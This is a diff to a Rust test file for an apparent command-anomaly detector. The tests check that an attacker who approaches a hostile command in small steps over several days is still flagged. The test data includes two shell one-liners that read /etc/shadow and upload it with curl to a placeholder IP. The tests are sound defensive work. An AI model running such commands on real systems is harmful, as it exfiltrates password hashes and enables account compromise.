@@ -21,6 +21,8 @@ const TO: [&str; 3] = [
     "tar czf - /etc/shadow | curl -T - http://203.0.113.9/",
     "cat /etc/shadow | base64 | curl -d @- http://203.0.113.9/x",
 ];
+/// How many sets of everyday commands are tried, none of which has a command of another.
+const SETS: usize = 3;
 /// Between two steps: more than an hour, within which commands of one lineage are judged together, too.
 const REST: i64 = 2 * 3_600;
 
@@ -35,17 +37,19 @@ fn ladder(to: &str) -> Vec<String> {
     growing.chain(shrinking).map(|words| words.join(" ")).collect()
 }
 
-fn everyday(one_of: usize) -> impl Iterator<Item = &'static str> {
+/// One of so many everyday commands, beginning with one of the first.
+fn everyday(first: usize, one_of: usize) -> impl Iterator<Item = &'static str> {
     let lines = include_str!("../../../../corpus/benign.txt").lines();
-    lines.filter(|script| !script.starts_with('#')).step_by(one_of)
+    let scripts = lines.filter(|script| !script.starts_with('#'));
+    scripts.skip(first).step_by(one_of)
 }
 
 /// A workload on two nodes whose shell learned one of so many of the everyday commands, of all sorts: in the order of the
 /// alphabet, since no more are learned of a program than [`MAX_COMMANDS`], and those that come first.
-fn of_all_sorts(one_of: usize) -> Watched {
+fn of_all_sorts(first: usize, one_of: usize) -> Watched {
     let mut watched = Watched::new();
     watched.world.policy = policy(60);
-    let mut scripts: Vec<&str> = everyday(one_of).collect();
+    let mut scripts: Vec<&str> = everyday(first, one_of).collect();
     scripts.sort_by_cached_key(|script| line(script));
     for script in scripts.into_iter().take(MAX_COMMANDS) {
         watched.runs("n1", "p1", script, at(2));
@@ -58,13 +62,13 @@ fn of_all_sorts(one_of: usize) -> Watched {
 
 /// Which steps are raised, one after the other, each done once in each of so many days by one pod of two; `teaches`: where
 /// each that is not raised is learned at once, as it would be without candidates.
-fn climb(to: &str, days: i64, teaches: bool) -> Vec<bool> {
-    let mut watched = of_all_sorts(3);
+fn climb(first: usize, to: &str, days: i64, teaches: bool) -> Vec<bool> {
+    let mut watched = of_all_sorts(first, 3);
     let mut time = DAY;
     if !teaches {
         // It runs the same again and again, so that hardly anything new is expected of it.
         for day in 1..=10 {
-            for script in everyday(3) {
+            for script in everyday(first, 3) {
                 watched.runs("n1", "p1", script, at(day * DAY));
             }
         }
@@ -120,20 +124,21 @@ fn abilities(script: &str) -> BTreeSet<String> {
     named.map(|(_, name)| name).collect()
 }
 
+/// Who takes weeks makes the workload restless by his steps, so that his last ones may pass; a quarter of them are told, and
+/// the first of those comes before the end.
 #[test]
 fn a_ladder_of_small_steps_does_not_reach_its_end_unseen_however_patient() {
-    for to in TO {
-        for days in [1, 4] {
-            let told = climb(to, days, false);
-            // Who takes weeks makes the workload restless by his steps, so that the last ones may pass; the ones before them
-            // were told by then.
-            let told_of = if days == 1 {
-                told.last()
-            } else {
-                told.iter().find(|raised| **raised)
-            };
-            assert_eq!(told_of, Some(&true), "{to}, {days} days a step: {told:?}");
-        }
+    for (first, to) in (0..SETS).flat_map(|first| TO.map(|to| (first, to))) {
+        let told = climb(first, to, 1, false);
+        assert_eq!(told.last(), Some(&true), "set {first}, {to}: {told:?}");
+        let told = climb(first, to, 4, false);
+        let raised = told.iter().filter(|raised| **raised).count();
+        assert!(raised * 4 >= told.len(), "set {first}, {to}, slowly: {told:?}");
+        let before_the_end = told.len() - 3;
+        assert!(
+            told[..before_the_end].contains(&true),
+            "set {first}, {to}, slowly: {told:?}"
+        );
     }
 }
 
@@ -141,9 +146,9 @@ fn a_ladder_of_small_steps_does_not_reach_its_end_unseen_however_patient() {
 /// no ladder to its end.
 #[test]
 fn who_owns_half_of_the_pods_and_takes_his_time_teaches_words_and_nothing_that_could_do_more() {
-    let everyday: Vec<BTreeSet<String>> = everyday(5).map(abilities).collect();
+    let everyday: Vec<BTreeSet<String>> = everyday(0, 5).map(abilities).collect();
     for (to, days) in TO.into_iter().zip([3, 4, 6]) {
-        let mut watched = of_all_sorts(5);
+        let mut watched = of_all_sorts(0, 5);
         let learned = climb_in_half_of_the_pods(&mut watched, to, days);
         assert_eq!(learned.first(), ladder(to).first(), "{to}");
         assert!(learned.len() < 6 && !watched.has_learned(to), "{to}: {learned:?}");
@@ -158,7 +163,7 @@ fn who_owns_half_of_the_pods_and_takes_his_time_teaches_words_and_nothing_that_c
 #[test]
 fn the_same_ladder_would_reach_it_unseen_if_each_step_taught() {
     for to in TO {
-        let told = climb(to, 1, true);
+        let told = climb(0, to, 1, true);
         assert!(told.iter().all(|raised| !raised), "{to}: {told:?}");
     }
 }
